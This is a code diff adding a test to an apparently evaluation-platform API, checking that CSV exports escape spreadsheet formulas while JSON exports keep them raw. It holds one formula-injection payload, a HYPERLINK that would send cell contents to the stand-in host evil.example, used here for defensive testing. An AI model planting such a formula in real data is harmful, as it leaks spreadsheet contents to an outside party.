@@ -315,3 +315,22 @@ def test_leaderboards_show_no_run_time_or_memory_of_held_out_runs(
         assert entry["provenance"]["wall_time_s"] is None
         assert entry["provenance"]["peak_memory_bytes"] is None
         assert entry["provenance"]["worker_hosts"] == ["worker-1"]
+
+
+def test_csv_downloads_keep_formulas_as_text(
+    client: TestClient, db_session: Session, world: World
+) -> None:
+    import csv
+    import io
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for run in world.evaluation.runs:
+        run.submitter_message = formula
+    db_session.flush()
+    url = f"/api/v1/evaluations/{world.evaluation.id}/recordings/download?format=csv"
+    text = client.get(url, headers=f.headers(db_session, world.admin)).text
+    messages = {row["submitter_message"] for row in csv.DictReader(io.StringIO(text))}
+    assert messages == {"'" + formula}
+    json_url = url.replace("format=csv", "format=json")
+    rows = client.get(json_url, headers=f.headers(db_session, world.admin)).json()
+    assert {row["submitter_message"] for row in rows} == {formula}  # JSON keeps it as is
